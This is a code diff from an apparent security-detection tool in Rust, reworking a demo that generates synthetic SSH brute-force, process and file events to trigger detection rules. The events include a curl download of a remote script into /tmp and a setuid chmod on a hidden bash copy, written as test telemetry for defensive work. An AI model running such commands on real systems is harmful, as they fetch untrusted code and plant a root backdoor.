@@ -41,12 +41,15 @@ pub fn demo_scenario(host: &str, now_us: i64) -> Vec<Event> {
             proc_("/usr/bin/curl", "curl -fsSL http://198.51.100.7/x.sh -o /tmp/x.sh", "dev", "/usr/bin/bash"),
         ),
     ];
-    // A brute force two minutes ago (its one-minute window is long closed by the events that
-    // follow at `now`, so the windowed rule fires right away).
-    let two_minutes_ago = (now_us - 120_000_000).div_euclid(60_000_000) * 60_000_000;
+    // A brute force now, inside the current minute: its one-minute window closes once the
+    // sensor's time passes the window's end plus the rule's lateness (see
+    // [`demo_window_closes_at`]). Backdating it would make a second demo's rows late: the
+    // first demo already moved the tenant's event time past them.
+    let minute_end = now_us.div_euclid(MINUTE_US) * MINUTE_US + MINUTE_US;
+    let start = now_us.min(minute_end - 100_000);
     for i in 0..6 {
         let mut row = json!({"user": "admin", "src_ip": "203.0.113.9", "service": "ssh", "method": "password", "outcome": "failure", "host": host});
-        row["ts"] = json!(two_minutes_ago + i * 2_000_000);
+        row["ts"] = json!(start + i * 10_000);
         events.push(Event { table: "auth_events".into(), row });
     }
     events.extend([
@@ -63,6 +66,22 @@ pub fn demo_scenario(host: &str, now_us: i64) -> Vec<Event> {
         next("file_events", json!({"pid": 4300, "exe": "/usr/bin/chmod", "user": "root", "uid": 0, "action": "chmod", "path": "/tmp/.x/bash", "mode": 0o4755})),
     ]);
     events
+}
+
+const MINUTE_US: i64 = 60_000_000;
+
+/// When the demo's brute-force window can close: the end of the minute of `now_us` plus the
+/// rule's lateness (5 s) and a second of margin.
+pub fn demo_window_closes_at(now_us: i64) -> i64 {
+    now_us.div_euclid(MINUTE_US) * MINUTE_US + MINUTE_US + 6_000_000
+}
+
+/// A benign event stamped `at_us` that moves the sensor's event time past the demo's window
+/// (a successful key-based login; no rule fires on it).
+pub fn demo_closing_event(host: &str, at_us: i64) -> Event {
+    let row = json!({"ts": at_us, "host": host, "user": "dev", "src_ip": "192.0.2.10", "service": "ssh",
+                     "method": "publickey", "outcome": "success"});
+    Event { table: "auth_events".into(), row }
 }
 
 /// Watches `/proc` at the observe level in `level` (re-read whenever it changes): nothing at
